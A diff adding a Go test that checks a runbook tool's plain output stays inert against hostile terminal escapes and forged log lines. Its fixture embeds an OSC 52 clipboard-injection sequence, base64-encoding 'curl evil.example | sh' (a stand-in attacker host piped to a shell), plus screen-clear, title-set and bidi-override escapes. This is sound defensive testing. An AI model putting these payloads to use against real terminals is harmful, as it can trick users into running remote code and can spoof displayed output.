@@ -1,0 +1,59 @@
+package plain
+
+import (
+	"bytes"
+	"context"
+	"regexp"
+	"strings"
+	"testing"
+
+	"runway/ui/inert"
+)
+
+// hostileRunbook carries terminal escapes and forged lines in its title, in
+// a command's output and in a database value, the way a hostile runbook
+// author, command or customer name could.
+const hostileRunbook = `
+version: 1
+name: t
+title: "Hostile\n12:00:00 p/name  passed\e]0;pwned\a"
+connections:
+  db: {driver: sqlite, dsn: "file:hostile.db"}
+phases:
+  - id: p
+    title: P
+    risk: low
+    expected: 1h
+    items:
+      - id: out
+        title: "Output\e[2J"
+        command: {run: "printf '\\033]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\a\\033]0;pwned\\a\\033[2J'; exit 3"}
+      - id: name
+        title: Customer name
+        critical: true
+        sql: {conn: db, query: "SELECT 'Bob' || char(27) || 'E' || '12:00:00 p/name  passed' || char(13) || char(10) || '12:00:01 p/other  passed' || char(27) || ']0;pwned' || char(7) || char(155) || '2J' || char(8238)", expect: "Bob"}
+`
+
+// forged is a line that reads like an event line runway did not print.
+var forged = regexp.MustCompile(`^12:00:0[01] `)
+
+func TestPlainOutputIsInert(t *testing.T) {
+	sess, _, _ := start(t, hostileRunbook)
+	var out bytes.Buffer
+	code := Run(context.Background(), sess, strings.NewReader(""), &out)
+	if code != ExitStopped {
+		t.Fatalf("exit %d, want 1 (the critical sql check fails); output:\n%s", code, out.String())
+	}
+	text := out.String()
+	if !strings.Contains(text, `\x1b]0;pwned\x07`) {
+		t.Errorf("the hostile value is not shown escaped:\n%s", text)
+	}
+	for _, line := range strings.Split(strings.TrimSuffix(text, "\n"), "\n") {
+		if msg := inert.Problem(line, false); msg != "" {
+			t.Errorf("%s in line %q", msg, line)
+		}
+		if forged.MatchString(line) {
+			t.Errorf("forged line %q", line)
+		}
+	}
+}
